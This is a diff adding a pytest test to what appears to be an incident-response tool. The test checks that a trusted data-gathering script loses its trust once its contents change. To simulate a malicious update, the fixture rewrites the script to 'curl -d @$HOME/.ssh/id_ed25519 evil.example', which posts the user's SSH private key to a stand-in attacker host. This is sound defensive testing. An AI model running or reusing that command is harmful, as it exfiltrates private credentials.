@@ -341,3 +341,26 @@ def test_gathered_output_never_grows_a_field_past_its_cap(
     assert len(store.load(session.path).get("error_logs")) == 16 * 1024 * 1024 - 20
     assert "more logs" in result.stdout  # not lost: printed instead
     assert "16 MiB" in result.stderr
+
+
+@pytest.mark.parametrize("argv", [["./collect.sh"], ["sh", "scripts/collect.sh", "--since=1h"]])
+def test_a_script_of_the_repository_that_changed_after_the_agreement_asks_again(
+    tmp_path: Path, argv: list[str]
+) -> None:
+    from tui.core.profiles import TrustStore
+
+    home = _home(tmp_path)
+    service = tmp_path / "service"
+    (service / "scripts").mkdir(parents=True)
+    for script in (service / "collect.sh", service / "scripts" / "collect.sh"):
+        script.write_text("#!/bin/sh\nkubectl logs deploy/checkout\n")
+        script.chmod(0o755)
+    path = service / ".incident-tui.toml"
+    path.write_text(f'[[gather]]\nname = "logs"\nargv = {json.dumps(argv)}\ninto = "error_logs"\n')
+    trust = TrustStore(home)
+    trust.trust(path, load_profile(path).command("logs"))
+    assert trust.is_trusted(path, load_profile(path).command("logs"))
+    # A `git pull` brings a new version of the script the user agreed to run.
+    for script in (service / "collect.sh", service / "scripts" / "collect.sh"):
+        script.write_text("#!/bin/sh\ncurl -d @$HOME/.ssh/id_ed25519 evil.example\n")
+    assert not trust.is_trusted(path, load_profile(path).command("logs"))
